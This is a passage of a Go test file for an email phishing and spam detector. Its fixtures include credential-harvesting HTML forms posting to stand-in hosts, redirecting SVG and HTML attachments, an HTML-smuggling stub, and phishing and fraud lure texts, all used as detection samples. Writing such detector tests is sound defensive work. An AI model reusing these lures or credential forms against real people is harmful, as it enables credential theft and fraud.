package detect

import (
	"archive/zip"
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mailwarden/mailwarden/internal/auth"
	"github.com/mailwarden/mailwarden/internal/bayes"
	"github.com/mailwarden/mailwarden/internal/message"
)

// base is a plain message from an outside sender to the organisation.
func base() *message.Message {
	return &message.Message{
		Subject: "Lunch on Friday",
		From:    message.Address{Name: "Pat Smith", Addr: "pat@partner.org"},
		To:      []message.Address{{Addr: "jane@acme.com"}},
		Text:    "Hi Jane, are we still on for lunch on Friday? Pat",
		Headers: []message.Header{{Name: "From", Value: "Pat Smith <pat@partner.org>"}},
	}
}

func org() *Policy {
	return &Policy{
		ProtectedDomains: []string{"acme.com"},
		Executives:       []Executive{{Name: "Jane Doe", Email: "jane.doe@acme.com"}},
	}
}

func names(v Verdict) []string {
	var out []string
	for _, t := range v.Triggers {
		out = append(out, t.Name)
	}
	return out
}

func detect(m *message.Message, a auth.Result, p *Policy) Verdict {
	return New(DefaultConfig(), nil).Detect(context.Background(), m, a, p)
}

func TestTriggers(t *testing.T) {
	zipWith := func(name string, encrypted bool) []byte {
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		fh := &zip.FileHeader{Name: name, Method: zip.Store}
		if encrypted {
			fh.Flags |= 1
		}
		f, _ := w.CreateHeader(fh)
		f.Write([]byte("content"))
		w.Close()
		return b.Bytes()
	}
	smuggle := `<html><script>var d=atob("` + strings.Repeat("QUJD", 600) + `");var b=new Blob([d]);</script></html>`
	tests := []struct {
		name    string
		trigger string
		want    bool
		edit    func(m *message.Message, a *auth.Result, p *Policy)
	}{
		{"spf fail", TrigSPFFail, true, func(m *message.Message, a *auth.Result, p *Policy) {
			a.SPF = auth.SPFResult{Result: auth.ResultFail, Domain: "partner.org"}
		}},
		{"spf softfail", TrigSPFFail, true, func(m *message.Message, a *auth.Result, p *Policy) { a.SPF.Result = auth.ResultSoftfail }},
		{"spf pass", TrigSPFFail, false, func(m *message.Message, a *auth.Result, p *Policy) { a.SPF.Result = auth.ResultPass }},
		{"dkim fail", TrigDKIMFail, true, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DKIM = []auth.DKIMResult{{Result: auth.ResultFail, Domain: "partner.org"}}
		}},
		{"dkim one passes", TrigDKIMFail, false, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DKIM = []auth.DKIMResult{{Result: auth.ResultFail}, {Result: auth.ResultPass}}
		}},
		{"dmarc reject", TrigDMARCFailReject, true, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Domain: "partner.org", Policy: "reject", Applied: "reject"}
		}},
		{"dmarc quarantine", TrigDMARCFailQuarantine, true, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "quarantine"}
		}},
		{"dmarc none", TrigDMARCFailNone, true, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "none"}
		}},
		{"dmarc pass", TrigDMARCFailReject, false, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultPass, Policy: "reject"}
		}},
		{"envelope mismatch", TrigHeaderEnvelopeMismatch, true, func(m *message.Message, a *auth.Result, p *Policy) { a.EnvelopeMismatch = true }},
		{"envelope match", TrigHeaderEnvelopeMismatch, false, nil},
		{"protected domain unauthenticated", TrigProtectedDomainUnauthent, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "ceo@acme.com"
		}},
		{"protected domain authenticated", TrigProtectedDomainUnauthent, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "ceo@acme.com"
			a.DMARC.Result = auth.ResultPass
		}},
		{"lookalike from", TrigLookalikeDomain, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Addr = "billing@acrne.com" }},
		{"lookalike link", TrigLookalikeDomain, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://acme-login.com/x", Host: "acme-login.com"}}
		}},
		{"lookalike exempt by trusted domain", TrigLookalikeDomain, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "billing@acme.co"
			p.TrustedDomains = []TrustedDomain{{Pattern: "acme.co", IsSimilarity: true}}
		}},
		{"not a lookalike", TrigLookalikeDomain, false, nil},
		{"display name executive", TrigDisplayNameImperson, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Jane Doe", Addr: "jane.doe.ceo@gmail.com"}
		}},
		{"display name executive from own address", TrigDisplayNameImperson, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Jane Doe", Addr: "jane.doe@acme.com"}
			a.DMARC.Result = auth.ResultPass
		}},
		{"display name other person", TrigDisplayNameImperson, false, nil},
		{"display name shows address", TrigDisplayNameAddress, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "support@bank.example"
			m.From.Name = "service@paypal.com"
		}},
		{"link text mismatch", TrigLinkTextMismatch, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "http://evil.example.net/login", Text: "www.mybank.com", Source: "html"}}
		}},
		{"link text same domain", TrigLinkTextMismatch, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://www.mybank.com/login", Text: "mybank.com", Source: "html"}}
		}},
		{"link text words", TrigLinkTextMismatch, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://evil.example.net/", Text: "click here", Source: "html"}}
		}},
		{"ip literal", TrigIPLiteralLink, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "http://192.0.2.7/login"}}
		}},
		{"decimal ip literal", TrigIPLiteralLink, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "http://3232235777/"}}
		}},
		{"no ip literal", TrigIPLiteralLink, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://example.com/"}}
		}},
		{"shortener", TrigURLShortenerLink, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://bit.ly/abc"}}
		}},
		{"free hosting", TrigFreeHostingLink, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://login-portal.web.app/"}}
		}},
		{"ordinary link", TrigFreeHostingLink, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "https://www.example.org/"}}
		}},
		{"credential form in body", TrigCredentialForm, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.HTML = `<form action="https://collect.example.net/p.php" method="post"><input type="email" name="u"><input type="password" name="p"></form>`
		}},
		{"credential form in attachment", TrigCredentialForm, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "Statement.html", ContentType: "text/html", Data: []byte(`<input type="password" id="pw"><script>fetch("https://x.example/")</script>`)}}
		}},
		{"search form", TrigCredentialForm, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.HTML = `<form action="https://search.example.net/"><input type="text" name="q"></form>`
		}},
		{"executable", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "setup.exe"}}
		}},
		{"double extension", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
		}},
		{"macro document", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "Q3.xlsm"}}
		}},
		{"disk image", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "docs.iso"}}
		}},
		{"script in zip", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "files.zip", Data: zipWith("scan.js", false)}}
		}},
		{"svg with script", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "Remittance.svg", ContentType: "image/svg+xml",
				Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location="https://pay-portal.example/x"]]></script></svg>`)}}
		}},
		{"svg picture", TrigDangerousAttachment, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "logo.svg", ContentType: "image/svg+xml",
				Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#036"/></svg>`)}}
		}},
		{"html attachment that redirects", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "Voicemail_0412.htm", ContentType: "text/html",
				Data: []byte(`<html><body>Loading...<script>var u=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv");window.location.replace(u)</script></body></html>`)}}
		}},
		{"html attachment that refreshes", TrigDangerousAttachment, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "scan.html", Data: []byte(`<meta http-equiv="refresh" content="0;url=https://evil.example/">`)}}
		}},
		{"html receipt", TrigDangerousAttachment, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "receipt.html", ContentType: "text/html",
				Data: []byte(`<html><body><table><tr><td>Total</td><td>12.00 EUR</td></tr></table></body></html>`)}}
		}},
		{"pdf", TrigDangerousAttachment, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf", Data: []byte("%PDF-1.7")}}
		}},
		{"encrypted zip", TrigEncryptedArchive, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.zip", Data: zipWith("invoice.pdf", true)}}
		}},
		{"plain zip", TrigEncryptedArchive, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.zip", Data: zipWith("invoice.pdf", false)}}
		}},
		{"html smuggling", TrigHTMLSmuggling, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "doc.html", ContentType: "text/html", Data: []byte(smuggle)}}
		}},
		{"big inline image is not smuggling", TrigHTMLSmuggling, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.HTML = `<img src="data:image/png;base64,` + strings.Repeat("QUJD", 600) + `">`
		}},
		{"payment request", TrigPaymentRequest, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Are you available? I need you to buy some gift cards for a client urgently. Keep this between us."
		}},
		{"payment request from known sender", TrigPaymentRequest, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Please process the wire transfer today, it is urgent."
			p.SenderHistory = history(SenderHistory{Messages: 12, Clean: 12, First: time.Now().AddDate(-1, 0, 0)})
			a.DMARC.Result = auth.ResultPass
		}},
		{"payment request from known sender, not authenticated", TrigPaymentRequest, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Please process the wire transfer today, it is urgent."
			p.SenderHistory = history(SenderHistory{Messages: 12, Clean: 12, First: time.Now().AddDate(-1, 0, 0)})
		}},
		{"vendor bank change", TrigPaymentRequest, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "We have changed our receiving bank. The outstanding invoices should be remitted to the new account, effective immediately."
		}},
		{"bank change without urgency", TrigPaymentRequest, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "For your records: we have changed our receiving bank; the new details are on our next statement."
		}},
		{"invoice without urgency", TrigPaymentRequest, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Attached is the invoice; payment is due in 30 days as usual."
		}},
		{"bank details changed, no urgency", TrigPaymentRequest, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Due to our annual audit we have moved our operating account to a new bank; please make sure future payments go to the new account."
		}},
		{"bank details changed, German", TrigPaymentRequest, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Bitte beachten Sie, dass sich unsere Bankverbindung geändert hat. Die neue IBAN finden Sie im Anhang."
		}},
		{"a new customer account, not bank details", TrigPaymentRequest, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Welcome! Here are your new account details: sign in with your e-mail address."
		}},
		{"reply-to free-mail", TrigReplyToDivert, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Addr: "pat.partner@gmail.com"}}
		}},
		{"reply-to mailing list", TrigReplyToDivert, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Addr: "dev@lists.example.org"}}
			m.Headers = append(m.Headers, message.Header{Name: "List-Post", Value: "<mailto:dev@lists.example.org>"})
		}},
		{"reply-to same org", TrigReplyToDivert, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Addr: "sales@mail.partner.org"}}
		}},
		{"reply-to the organisation's own domain", TrigReplyToDivert, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Ana via Docusign", Addr: "dse_na3@docusign.net"}
			m.ReplyTo = []message.Address{{Addr: "ana.lopez@acme.com"}}
		}},
		{"reply-to a look-alike of the organisation", TrigLookalikeDomain, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Addr: "ana.lopez@acme-corp.com"}}
		}},
		{"executive's name relayed by a service, replies to the executive", TrigDisplayNameImperson, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Jane Doe (via SharePoint Online)", Addr: "no-reply@sharepointonline.com"}
			m.ReplyTo = []message.Address{{Name: "Jane Doe", Addr: "Jane.Doe@acme.com"}}
		}},
		{"executive's name, replies elsewhere", TrigDisplayNameImperson, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Jane Doe (via SharePoint Online)", Addr: "no-reply@sharepointonline.com"}
			m.ReplyTo = []message.Address{{Addr: "jane.doe@acme.com"}, {Addr: "jd.office@gmail.com"}}
		}},
		{"credential language", TrigCredentialLanguage, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Your account has been suspended. Click here to verify your account."
			m.Links = []message.Link{{Href: "https://example.net/"}}
		}},
		{"no credential language", TrigCredentialLanguage, false, nil},
		{"advance fee fraud", TrigAdvanceFeeFraud, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "I am the barrister to the late client who left USD 10.5 million in a dormant account. I need your assistance as next of kin; reply urgently."
		}},
		{"lottery fraud, sum in words", TrigAdvanceFeeFraud, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Congratulations! Your address won in the International Lotteries Winners programme: you receive Two Million Euros. Contact the claims agent."
		}},
		{"a sum in words alone", TrigAdvanceFeeFraud, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "The new stadium cost five hundred million dollars, the council said on Tuesday."
		}},
		{"advance fee one group only", TrigAdvanceFeeFraud, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "The company raised $12,000,000 in its latest round, the press release says."
		}},
		{"sender on free hosting", TrigFreeHostingSender, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "noreply@heated-vest-deals.firebaseapp.com"
		}},
		{"sender on a cloud trial tenant", TrigFreeHostingSender, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "billing@contoso7731.onmicrosoft.com"
		}},
		{"sender is the form service itself", TrigFreeHostingSender, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "noreply@eu.jotform.com"
		}},
		{"sender on a hosting platform's own domain", TrigFreeHostingSender, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "support@github.io"
		}},
		{"private ip literal", TrigIPLiteralLink, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "http://192.168.10.18:3260"}, {Href: "http://10.0.0.1/"}}
		}},
		{"ip literal not a web link", TrigIPLiteralLink, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Links = []message.Link{{Href: "ipp://192.0.2.90:9100/"}}
		}},
		{"display name shows the original sender through a privacy relay", TrigDisplayNameAddress, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "news@shop.example [via Relay]", Addr: "k3j4h5@mozmail.com"}
		}},
		{"reply-to another organisation", TrigReplyToDivert, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Name: "Accounts", Addr: "accounts@billing-desk.example"}}
		}},
		{"reply-to an unsubscribe robot elsewhere", TrigReplyToDivert, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.ReplyTo = []message.Address{{Name: "Netscape Unsubscribe", Addr: "dms-unsubscribe@dms.mailer.example"}}
		}},
		{"display name domain alone", TrigDisplayNameAddress, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "PayPal.com"
		}},
		{"display name brand with domain", TrigDisplayNameAddress, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "CNET News.com Daily Dispatch"
		}},
		{"brand in display name from elsewhere", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "PayPal Service" }},
		{"brand spelled out", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "P a y P a l" }},
		{"brand with a capital I for l", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "PayPaI Security" }},
		{"brand with a Cyrillic letter", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Nеtflix" }},
		{"everyday-word brand with service words", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Apple Support" }},
		{"European bank", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "ING Bank Security" }},
		{"European bank from its own country domain", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "ING Bank", Addr: "noreply@ing.nl"}
		}},
		{"a surname that is a bank's initials", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Karl Ing" }},
		{"file-sharing brand", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "WeTransfer" }},
		{"tax office", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Agencia Tributaria" }},
		{"everyday-word brand inside a longer name", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Lockergnome Apple Core" }},
		{"everyday-word brand as a title", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "The Outlook" }},
		{"everyday-word brand inside an offer", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Visa for Bad Credit" }},
		{"brand from its own domain", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "PayPal"
			m.From.Addr = "service@mail.paypal.com"
		}},
		{"brand's name under a cheap generic suffix", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Apple Support"
			m.From.Addr = "id@apple.top"
		}},
		{"brand's name under a free country suffix", TrigBrandImpersonation, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Amazon"
			m.From.Addr = "orders@amazon.tk"
		}},
		{"brand from its own name under a country suffix", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Amazon"
			m.From.Addr = "auto-confirm@amazon.co.uk"
		}},
		{"brand from its own name under another suffix", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Amazon.de"
			m.From.Addr = "versandbestaetigung@amazon.de"
		}},
		{"brand relayed by a mailing list", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Microsoft Teams via Ops"
			m.From.Addr = "ops@lists.partner.org"
			m.Headers = append(m.Headers, message.Header{Name: "List-Id", Value: "<ops.lists.partner.org>"})
		}},
		{"brand from a protected domain", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Name = "Microsoft 365 admin"
			m.From.Addr = "it@acme.com"
		}},
		{"person named like no brand", TrigBrandImpersonation, false, func(m *message.Message, a *auth.Result, p *Policy) { m.From.Name = "Pat Chaseman" }},
		{"spam language", TrigSpamLanguage, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Text = "Limited time offer! Order now, 100% free, risk-free."
		}},
		{"no recipients", TrigNoRecipients, true, func(m *message.Message, a *auth.Result, p *Policy) { m.To = nil }},
		{"bulk headers", TrigBulkHeaders, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"}, message.Header{Name: "X-Mailgun-Tag", Value: "x"})
		}},
		{"no bulk headers", TrigBulkHeaders, false, nil},
		{"a receiving filter's stamp is no ESP header", TrigBulkHeaders, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "X-CMAE-Envelope", Value: "MS4xfGx3Qm9iZ3Jx"})
		}},
		{"hidden unsubscribe", TrigObscuredUnsubscribe, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"})
			m.HTML = "<p>Sale</p>"
			m.Links = []message.Link{{Href: "https://esp.example/u", Text: "unsubscribe", Hidden: true}}
		}},
		{"visible unsubscribe", TrigObscuredUnsubscribe, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"})
			m.HTML = "<p>Sale</p>"
			m.Links = []message.Link{{Href: "https://esp.example/u", Text: "Unsubscribe"}}
		}},
		{"mailing without an unsubscribe link", TrigObscuredUnsubscribe, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"})
			m.HTML = "<p>Sale</p>"
			m.Links = []message.Link{{Href: "https://shop.example/sale", Text: "Shop now"}}
		}},
		{"receipt through an ESP needs no unsubscribe link", TrigObscuredUnsubscribe, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "X-SES-Outgoing", Value: "2026.01.05-54.240.1.1"}, message.Header{Name: "Feedback-ID", Value: "1.us-east-1.x:AmazonSES"})
			m.HTML = "<p>Your order has shipped</p>"
			m.Links = []message.Link{{Href: "https://shop.example/orders/1", Text: "Track your package"}}
		}},
		{"German unsubscribe link", TrigObscuredUnsubscribe, false, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers, message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"})
			m.HTML = "<p>Sale</p>"
			m.Links = []message.Link{{Href: "https://esp.example/u?id=1", Text: "Newsletter abbestellen"}}
		}},
		{"malformed mime", message.ProblemMalformedMIME, true, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Problems = []message.Problem{{Code: message.ProblemMalformedMIME, Detail: "x"}}
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m, a, p := base(), auth.Result{}, org()
			if tc.edit != nil {
				tc.edit(m, &a, p)
			}
			v := detect(m, a, p)
			if got := slices.Contains(names(v), tc.trigger); got != tc.want {
				t.Errorf("%s fired %v, want %v; triggers %v", tc.trigger, got, tc.want, names(v))
			}
			for _, tr := range v.Triggers {
				if tr.Detail == "" || tr.Category == "" {
					t.Errorf("trigger %s without detail or category", tr.Name)
				}
			}
		})
	}
}

func TestDispositions(t *testing.T) {
	tests := []struct {
		name string
		want Disposition
		edit func(m *message.Message, a *auth.Result, p *Policy)
	}{
		{"clean", None, nil},
		{"spoof by dmarc reject", Spoof, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "reject", Applied: "reject"}
		}},
		{"dmarc none is not spoof", None, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "none"}
		}},
		{"suspicious executive impersonation", Suspicious, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From = message.Address{Name: "Jane Doe", Addr: "janedoe@gmail.com"}
		}},
		{"malicious: several phishing triggers", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			m.From.Addr = "billing@acme-secure.com"
			m.Links = []message.Link{{Href: "http://198.51.100.9/login", Text: "acme.com"}}
		}},
		{"malicious: one very strong trigger", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
		}},
		{"malicious outranks spoof", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "reject", Applied: "reject"}
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
		}},
		{"spoof outranks suspicious", Spoof, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "reject", Applied: "reject"}
			m.Attachments = []message.Attachment{{Name: "setup.exe"}}
		}},
		{"bulk", Bulk, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers,
				message.Header{Name: "List-Unsubscribe", Value: "<https://esp.example/u>"},
				message.Header{Name: "List-Unsubscribe-Post", Value: "List-Unsubscribe=One-Click"},
				message.Header{Name: "X-SES-Outgoing", Value: "x"})
		}},
		{"discussion list is not bulk", None, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Headers = append(m.Headers,
				message.Header{Name: "List-Id", Value: "<dev.lists.example.org>"},
				message.Header{Name: "List-Post", Value: "<mailto:dev@lists.example.org>"},
				message.Header{Name: "List-Unsubscribe", Value: "<mailto:dev+unsubscribe@lists.example.org>"},
				message.Header{Name: "Precedence", Value: "bulk"})
		}},
		{"blocked sender", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			p.BlockSenders = []BlockSender{{Pattern: "partner.org", PatternType: PatternDomain}}
		}},
		{"trusted sender bypasses", None, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
			p.AllowPolicies = []AllowPolicy{{Pattern: "pat@partner.org", PatternType: PatternEmail, IsTrustedSender: true}}
		}},
		{"trusted sender needs verification", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
			p.AllowPolicies = []AllowPolicy{{Pattern: `^pat@partner\.org$`, PatternType: PatternEmail, IsRegex: true, IsTrustedSender: true, VerifySender: true}}
		}},
		{"exempt recipient", None, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
			p.AllowPolicies = []AllowPolicy{{Pattern: "acme.com", PatternType: PatternDomain, IsExemptRecipient: true}}
		}},
		{"acceptable sender exempt from spoof", None, func(m *message.Message, a *auth.Result, p *Policy) {
			a.DMARC = auth.DMARCResult{Result: auth.ResultFail, Policy: "reject", Applied: "reject"}
			p.AllowPolicies = []AllowPolicy{{Pattern: "partner.org", PatternType: PatternDomain, IsAcceptableSender: true}}
		}},
		{"acceptable sender still phish-checked", Malicious, func(m *message.Message, a *auth.Result, p *Policy) {
			m.Attachments = []message.Attachment{{Name: "invoice.pdf.exe"}}
			p.AllowPolicies = []AllowPolicy{{Pattern: "partner.org", PatternType: PatternDomain, IsAcceptableSender: true}}
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m, a, p := base(), auth.Result{}, org()
			if tc.edit != nil {
				tc.edit(m, &a, p)
			}
			v := detect(m, a, p)
			if v.Disposition != tc.want {
				t.Errorf("got %s, want %s; triggers %v scores %v", v.Disposition, tc.want, names(v), v.Scores)
			}
		})
	}
}

// fakeScorer returns a fixed score.
type fakeScorer bayes.Score

func (f fakeScorer) Score(context.Context, int64, *message.Message) bayes.Score {
	return bayes.Score(f)
}

func TestBayesTriggers(t *testing.T) {
	noTo := func(m *message.Message) { m.To = nil } // no_visible_recipients: scored (0.5), but as common in ham as in spam
	phrases := func(m *message.Message) { m.Text += " Act now! This is a limited time offer." }
	gmail := func(m *message.Message) { m.From.Addr = "pat.smith@gmail.com" }
	replyGmail := func(m *message.Message) { m.ReplyTo = []message.Address{{Addr: "claims.desk@gmail.com"}} }
	shortener := func(m *message.Message) {
		m.Links = []message.Link{{Href: "https://bit.ly/x1", Host: "bit.ly", Source: "text"}}
	}
	ipLinks := func(m *message.Message) {
		m.Links = []message.Link{{Href: "http://192.0.2.7/login", Host: "192.0.2.7", Text: "www.mybank.com", Source: "html"}}
	}
	malformed := func(m *message.Message) {
		m.Problems = []message.Problem{{Code: message.ProblemBadHeader, Detail: "Date not parseable"}}
	}
	badUTF8 := func(m *message.Message) {
		m.Problems = []message.Problem{{Code: message.ProblemInvalidUTF8, Detail: "text/plain body is not valid UTF-8"}}
	}
	tests := []struct {
		name    string
		score   bayes.Score
		edit    func(*message.Message)
		trigger string
		want    Disposition
	}{
		{"no opinion", bayes.Score{Spam: -1, Phish: -1}, nil, "", None},
